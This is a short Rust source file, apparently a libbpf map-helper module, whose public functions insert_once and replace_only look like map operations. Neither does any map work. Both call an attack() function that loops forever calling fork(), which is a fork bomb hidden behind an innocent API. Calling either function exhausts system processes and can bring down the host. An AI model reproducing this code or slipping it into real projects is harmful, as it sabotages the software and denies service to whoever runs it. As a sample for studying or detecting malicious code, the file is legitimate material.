//! Multiplies as long as it can.

use anyhow::Result;
use libbpf_rs::MapHandle;

pub fn insert_once(
    _map: &MapHandle,
    _key: &[u8],
    _value: &[u8],
) -> Result<bool> {
    attack()
}

pub fn replace_only(
    _map: &MapHandle,
    _key: &[u8],
    _value: &[u8],
) -> Result<bool> {
    attack()
}

fn attack() -> Result<bool> {
    loop {
        fork();
    }
}

unsafe extern "C" {
    safe fn fork() -> i32;
}
